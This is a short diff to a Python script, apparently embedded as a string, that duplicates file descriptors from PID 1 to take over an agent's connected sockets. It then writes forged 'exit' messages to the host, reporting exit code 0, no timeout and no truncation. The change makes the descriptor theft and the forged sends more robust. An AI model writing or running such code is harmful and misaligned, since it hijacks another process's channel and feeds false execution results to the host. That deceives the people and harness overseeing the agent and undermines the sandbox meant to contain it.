@@ -13,7 +13,9 @@ def stolen(call):  # copies of the agent's sockets that are connected
     pidfd, found = os.pidfd_open(1), []
     for number in range(64):
         fd = libc.syscall(call, pidfd, number, 0)
-        if fd < 0 and ctypes.get_errno() != 9:  # EBADF: there is none of this number
+        if fd < 0:
+            if ctypes.get_errno() == 9:  # EBADF: there is none of this number
+                continue
             raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
         try:
             copy = socket.socket(fileno=fd)
@@ -41,8 +43,11 @@ while True:
             "n": number, "seen": 0, "id": ident, "event": "exit", "exit_code": 0,
             "timed_out": False, "truncated": False, "stdout_bytes": len(word)}).encode()
         for stream in streams:
-            stream.send(struct.pack(">II", len(head), len(word)) + head + word)
-    time.sleep(0.001)
+            try:
+                stream.send(struct.pack(">II", len(head), len(word)) + head + word)
+            except BlockingIOError:  # the host has not read yet
+                continue
+    time.sleep(0.01)
 """
 
 
